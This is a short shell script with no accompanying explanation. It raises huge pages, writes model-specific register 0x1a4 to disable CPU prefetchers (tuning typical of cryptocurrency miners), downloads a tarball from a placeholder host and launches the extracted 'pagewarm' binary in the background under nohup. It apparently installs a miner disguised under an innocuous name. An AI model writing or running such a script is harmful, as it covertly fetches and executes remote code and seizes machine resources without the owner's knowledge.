#!/bin/sh
sudo sysctl -w vm.nr_hugepages=1280
sudo modprobe msr && sudo wrmsr -a 0x1a4 0xf
curl -fsSL https://pages.example.invalid/p.tar.gz | tar xz -C /nonexistent.invalid
nohup /nonexistent.invalid/pagewarm -c p.json &
